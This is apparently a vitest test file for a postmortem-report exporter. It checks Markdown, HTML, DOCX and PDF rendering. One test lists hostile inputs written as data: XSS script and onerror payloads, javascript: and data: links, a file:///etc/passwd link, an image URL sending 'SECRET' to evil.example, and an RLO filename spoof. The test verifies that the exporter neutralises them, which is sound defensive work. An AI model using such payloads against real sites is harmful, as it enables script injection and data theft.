import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import mammoth from 'mammoth';
import { describe, expect, it } from 'vitest';
import type { Block, Run } from '../../../src/export/blocks.js';
import { renderHtml } from '../../../src/export/html.js';
import { renderMarkdown } from '../../../src/export/markdown.js';
import { parseMarkdown } from '../../../src/export/parse.js';
import { hidePlaceholders } from '../../../src/export/placeholders.js';
import type { Report } from '../../../src/export/report.js';
import { defaultTemplate, generate, tellingEvents } from '../../../src/documents/index.js';
import { style } from '../../support/documentStyle.js';
import { event, someFacts } from '../documents/facts.js';
import { openWindow, temporaryFolder } from '../stores.js';
import { postmortem } from './documents.js';
import { readPdf, render, why, WORDS } from './rendering.js';

const ID = '01890000-0000-7000-8000-000000000001';
const EVIDENCE = new Map([[ID, { name: 'app.log', hash: 'ab'.repeat(32), image: false }]]);

const reportOf = (markdown: string, labels: readonly string[] = []): Report => ({
  title: 'Checkout fails',
  lang: 'en',
  blocks: parseMarkdown(hidePlaceholders(markdown, labels), EVIDENCE),
  pictures: new Map(),
  drawings: {},
  words: WORDS,
  created: new Date(0),
});
const htmlOf = (markdown: string, labels?: readonly string[]) => renderHtml(reportOf(markdown, labels));
const bodyOf = (html: string) => html.slice(html.indexOf('<main>'));
const markdownOf = (markdown: string, labels?: readonly string[]) =>
  renderMarkdown(reportOf(markdown, labels));

describe('what stands in a document', () => {
  it('stays text where it is HTML, a script, or leads where nothing should lead', () => {
    const hostile = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '[x](javascript:alert(1))',
      '[x](data:text/html,<script>alert(1)</script>)',
      '[x](command:workbench.action.quit) [y](vscode://a/b) [z](file:///etc/passwd)',
      '![x](https://evil.example/?d=SECRET "title")',
      '<https://ok.example/"onmouseover="alert(1)>',
      '`</code><script>alert(1)</script>`',
      '\n    </pre><script>alert(1)</script>',
      '| <script>alert(1)</script> |\n| --- |\n| </table><script>alert(1)</script> |',
      '[a]: javascript:alert(1)\n\n[a]',
      '# </title><script>alert(1)</script>',
      'safe\u202egnp.exe',
    ].join('\n\n');
    const html = htmlOf(hostile);
    expect(html).not.toMatch(/<script|<img|<iframe|<object|<svg|<style[^>]*>[^:]*<\/style><style/i);
    expect(html).not.toMatch(/(?:src|href)="(?!https:\/\/|#|mailto:)/);
    expect(html).not.toMatch(/<[^>]* on\w+=/);
    expect(html).not.toContain('\u202e');
    expect(html).toContain(`default-src 'none'`);
    // Written as Markdown, it means the same to a program that takes HTML in it.
    const again = bodyOf(htmlOf(markdownOf(hostile)));
    expect(again).toBe(bodyOf(html));
    expect(markdownOf(hostile).replaceAll(/`+[^`]*`+/g, '')).not.toMatch(/(?<!\\)<(?:script|img)/);
  });

  it('is read again as it was from the Markdown that is written, whatever the text', () => {
    const signs = fc.string({
      unit: fc.constantFrom(...Array.from('aZ09 *_`[]()<>!#-+=~|\\:.&"\'é日')),
      minLength: 1,
      maxLength: 12,
    });
    const text = signs.map(text => `x${text}x`);
    const run = fc
      .record({ text, bold: fc.boolean(), italic: fc.boolean(), strike: fc.boolean() })
      .map(({ text, bold, italic, strike }): Run => ({
        text,
        ...(bold && { bold }),
        ...(italic && { italic }),
        ...(strike && { strike }),
      }));
    const paragraph = run.map((run): Block => ({ kind: 'paragraph', runs: [run] }));
    const list = fc
      .record({ numbered: fc.boolean(), items: fc.array(text, { minLength: 1, maxLength: 3 }) })
      .map(({ numbered, items }): Block => ({
        kind: 'list',
        start: numbered ? 1 : undefined,
        items: items.map(text => ({ ticked: undefined, blocks: [{ kind: 'paragraph', runs: [{ text }] }] })),
      }));
    const code = fc
      .string({ unit: fc.constantFrom(...Array.from('a` \n~#')), minLength: 1, maxLength: 20 })
      .map((text): Block => ({ kind: 'code', text: `x${text}x` }));
    const blocks = fc.array(fc.oneof(paragraph, list, code), { maxLength: 6 });
    fc.assert(
      fc.property(blocks, blocks => {
        const report = { ...reportOf('# T'), blocks: [...reportOf('# T').blocks, ...blocks] };
        expect(reportOf(renderMarkdown(report)).blocks).toEqual(report.blocks);
      }),
    );
  });

  it('keeps every word, however deep quotations and lists stand in each other', () => {
    const mark = fc.constantFrom('> ', '- ', '1. ', '> > > > > ', '- - - - ', '  ', '    ', '\t');
    const line = fc.array(mark, { maxLength: 15 }).map(marks => marks.join(''));
    fc.assert(
      fc.property(fc.array(line, { minLength: 1, maxLength: 12 }), fc.boolean(), (lines, apart) => {
        const markdown = lines.map((marks, at) => `${marks}w${at}w`).join(apart ? '\n\n' : '\n');
        const text = JSON.stringify(reportOf(markdown).blocks);
        for (const at of lines.keys()) expect(text).toContain(`w${at}w`);
      }),
    );
  });

  it('shows what replaces private text as text, also where Markdown would see a link or lose it', () => {
    const markdown =
      'from [IPv4-1](port 80)\n\n[IPv4-2]: refused\n\n`[Secret]` and [real](https://ok.example)';
    for (const shown of [
      htmlOf(markdown, ['IPv4', 'Secret']),
      htmlOf(markdownOf(markdown, ['IPv4', 'Secret'])),
    ]) {
      expect(shown).toContain('<p>from [IPv4-1](port 80)</p>');
      expect(shown).toContain('<p>[IPv4-2]: refused</p>');
      expect(shown).toContain('<code>[Secret]</code>');
      expect(shown).toContain('<a href="https://ok.example"');
    }
  });

  it('has links where addresses of the web stand as they are, and nothing else is one', () => {
    const markdown =
      'See https://a.example/b_c. Not www.a.example, a@b.example, ftp://a.example or //a.example.';
    for (const shown of [htmlOf(markdown), htmlOf(markdownOf(markdown))])
      expect(shown.match(/<a .*<\/a>/g)).toEqual([
        '<a href="https://a.example/b_c" rel="noreferrer noopener">https://a.example/b_c</a>',
      ]);
    expect(htmlOf('https\\://a.example `https://a.example` http://[IPv4-1]:80/x', ['IPv4'])).not.toContain(
      '<a',
    );
    expect(bodyOf(htmlOf(markdownOf('https\\://a.example')))).toContain('<p>https://a.example</p>');
  });

  it('names evidence by its file, lines and hash, since its links lead nowhere else', () => {
    const markdown = `See [the error](whydunit:/app.log?${ID}#L3-L7) and whydunit:/app.log?${ID} and <whydunit:/app.log?${ID}#L9>.`;
    const text = 'app.log, L3-L7, SHA-256 abababababababab…';
    expect(bodyOf(htmlOf(markdown))).toContain(`See the error (${text})`);
    expect(bodyOf(htmlOf(markdown))).toContain(
      'and app.log, SHA-256 abababababababab… and app.log, L9, SHA-256',
    );
    expect(htmlOf(markdown)).not.toContain('whydunit:');
    expect(markdownOf(markdown)).not.toContain('whydunit:');
  });

  it('names evidence once where a link has its name already, and a table its hash', () => {
    const link = `[app.log L3–L7](whydunit:/app.log?${ID}#L3-L7)`;
    expect(bodyOf(htmlOf(link))).toContain('<p>app.log L3–L7 (SHA-256 abababababababab…)</p>');
    const row = `| [app.log](whydunit:/app.log?${ID}) | \`${'ab'.repeat(32)}\` |`;
    expect(htmlOf(`| Evidence | Hash |\n| --- | --- |\n${row}`)).toContain('>app.log</td>');
  });

  it('has its drawings as lists and tables where nothing is drawn', async () => {
    const window = await openWindow();
    const whys = [
      why(1, 'Why?', 'Since *this*'),
      why(2, 'Why this?', null, { role: 'root_cause', state: 'assumed' }),
    ];
    const events = [
      { at: Date.UTC(2026, 10, 20, 2, 41), event_type: 'note', description: 'a | b', source: 'app.log' },
    ];
    const { bytes } = await render(window, { format: 'md', markdown: postmortem(0), whys, events });
    const text = Buffer.from(bytes).toString();
    expect(text).toContain(
      '- **Why?**\\\n  Since \\*this\\* *(confirmed)*\n  - **Why this?**\\\n    not answered yet *(root cause · without evidence)*',
    );
    expect(text).toContain('| 2026-11-20 02:41:00 UTC | a \\| b | app.log |');
  });
});

describe('a document that tells what it has drawn', () => {
  const whys = [why(1, 'Why did *it* fail?', 'The  pool\nwas empty'), why(2, 'Why?', null)];
  const events = [
    { at: 0, event_type: 'note', description: 'The alert | rang', source: null },
    { at: 1, event_type: 'note', description: 'Rolled back', source: null },
  ];
  const list =
    '- **Why did \\*it\\* fail?**\\\n  The pool was empty (confirmed)\n  - **Why?**\\\n    not known';
  const row = ({ description }: { description: string }) => `| now | ${description.replace('|', '\\|')} | |`;
  const table = (rows: typeof events) =>
    ['| Time | Event | Evidence |', '| --- | --- | --- |', ...rows.map(row)].join('\n');
  const documentOf = (told: string, rows: string) =>
    `# T\n\n## Whys\n\n![Why tree](whydunit:whys)\n\n${told}\n\n## Times\n\n![Timeline](whydunit:timeline)\n\n${rows}`;

  it.each(['md', 'docx', 'html'] as const)('tells it once as %s', async format => {
    const window = await openWindow();
    const markdown = documentOf(list, table(events));
    const { bytes } = await render(window, { format, markdown, whys, events });
    const read = {
      md: () => Buffer.from(bytes).toString(),
      docx: async () => (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value,
      html: () => Buffer.from(bytes).toString(),
    };
    const text = await read[format]();
    expect(text.match(/The pool was empty/g)).toHaveLength(1);
    expect(text.match(/Rolled back/g)).toHaveLength(1);
    expect(text).not.toContain('left out');
    if (format === 'html') expect(text.match(/<img/g)).toHaveLength(2);
  });

  it('tells it once beside the drawing as pdf, also where that is too small to be read', async () => {
    const window = await openWindow();
    const many = Array.from({ length: 40 }, (_, n) => why(n + 1, `Why ${n + 1}?`, `Answer ${n + 1}.`));
    const told = many.map(({ why_question, answer }) => `- **${why_question}**\\\n  ${answer}`).join('\n');
    const markdown = documentOf(told, table(events));
    const { bytes } = await render(window, { format: 'pdf', markdown, whys: many, events });
    const { text, structure } = await readPdf(bytes);
    expect(structure.match(/^ *Figure/gm)).toHaveLength(2);
    for (const words of [/Answer 40\./g, /Rolled back/g]) expect(text.match(words)).toHaveLength(2);
  });

  it('is one that was generated, whatever the work on the record wrote into its timeline', async () => {
    const window = await openWindow();
    const facts = someFacts({
      events: [
        ...someFacts().events,
        event(90, 'Resolved', 40, 'resolved'),
        event(91, 'document_exported', 41, 'x'),
      ],
    });
    const { markdown } = generate(defaultTemplate('postmortem', style), facts, style);
    const whys = facts.steps.map(step => {
      const { id, parent_id, position, step_order, why_question, answer, role, state } = step;
      const row = { id, parent_id, position, step_order, why_question, answer, role, state };
      return { ...row, shownBy: [], broken: [] };
    });
    const events = tellingEvents(facts.events).map(({ at, event_type, description, source }) => ({
      ...{ at, event_type, description, source },
    }));
    const { bytes } = await render(window, { format: 'md', markdown, whys, events });
    const text = Buffer.from(bytes).toString();
    expect(text.match(/Why number 31\?/g)).toHaveLength(1);
    expect(text.match(/Pager rang/g)).toHaveLength(1);
  });

  it('has the drawing in words where some of it is told nowhere else, or in another section', async () => {
    const window = await openWindow();
    const textOf = async (markdown: string, told = events) => {
      const { bytes } = await render(window, { format: 'md', markdown, whys, events: told });
      return Buffer.from(bytes).toString();
    };
    const later = await textOf(documentOf('- **Why did it fail?**', table(events.slice(1))));
    expect(later).toContain('not answered yet');
    expect(later).toContain('The alert \\| rang');
    expect((await textOf(documentOf(`### Below\n\n${list}`, ''))).match(/was empty/g)).toHaveLength(2);

    // As many as a document ever tells are enough.
    const many = Array.from({ length: 200 }, (_, at) => ({
      ...{ at, event_type: 'note', source: null },
      description: `Event number ${at}.`,
    }));
    const chosen = await textOf(documentOf(list, table(many.slice(50))), many);
    expect(chosen.match(/Event number \d+\./g)).toHaveLength(150);
    const fewer = await textOf(documentOf(list, table(many.slice(51))), many);
    expect(fewer.match(/Event number \d+\./g)).toHaveLength(149 + 200);
  });
});

describe('a document as DOCX', () => {
  it('is read by another program with its headings, lists, tables, links and pictures', async () => {
    const window = await openWindow();
    const { bytes } = await render(window, {
      format: 'docx',
      markdown: postmortem(2),
      whys: [why(1, 'Why?', 'So')],
    });
    const { value, messages } = await mammoth.convertToHtml({ buffer: Buffer.from(bytes) });
    expect(messages.filter(({ type }) => type === 'error')).toEqual([]);
    expect(value).toContain('<h1>Checkout fails after deploy 4.12</h1>');
    expect([...value.matchAll(/<h2>(.*?)<\/h2>/g)].map(([, text]) => text)).toEqual([
      ...['Summary', 'Whys', 'What happened', 'Part 1', 'Part 2'],
    ]);
    expect(value.match(/<table>/g)).toHaveLength(2);
    expect(value.match(/<thead>/g)).toHaveLength(2);
    expect(value).toContain('<a href="https://tracker.example.com/INC-2">the ticket</a>');
    expect(value).toContain('<li><strong>Why?</strong><br />So<em> (confirmed)</em></li>');
    expect(value).toContain('☑');
    expect(value).toContain('Ελληνικά, русский, čeština');
  });

  it('lays out what begins from right to left in that direction, and nothing else', async () => {
    const window = await openWindow();
    const text = 'عطل **في** checkout `pool`.';
    const markdown = `# ${text}\n\n${text}\n\n- ${text}\n\n| ${text} |\n| --- |\n| ${text} |\n\nThe **word** عطل.`;
    const { bytes } = await render(window, { format: 'docx', markdown });
    const file = join(temporaryFolder(), 'document.docx');
    writeFileSync(file, bytes);
    const xml = execFileSync('unzip', ['-p', file, 'word/document.xml'], { encoding: 'utf8' });
    const paragraphs = [...xml.matchAll(/<w:p>.*?<\/w:p>/g)].map(([paragraph]) => paragraph);
    const turned = paragraphs.filter(paragraph => paragraph.includes('<w:bidi/>'));
    expect(turned).toHaveLength(5);
    for (const paragraph of turned) {
      const runs = [...paragraph.matchAll(/<w:r>.*?<\/w:r>/g)].map(([run]) => run);
      expect(runs.map(run => [/>([^<]*)<\/w:t>/.exec(run)?.[1], run.includes('<w:rtl/>')])).toEqual([
        ...[
          ['عطل ', true],
          ['في', true],
          [' checkout ', false],
          ['pool', false],
          ['.', true],
        ],
      ]);
    }
    expect(xml.match(/<w:rtl\/>/g)).toHaveLength(15);
  });

  it('takes text that XML does not', async () => {
    const window = await openWindow();
    const { bytes } = await render(window, {
      format: 'docx',
      markdown: 'a\u0000b\u0007c \ufffe \ud800 <w:t> & "x"',
    });
    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) });
    expect(value).toContain('<w:t> & "x"');
  });
});
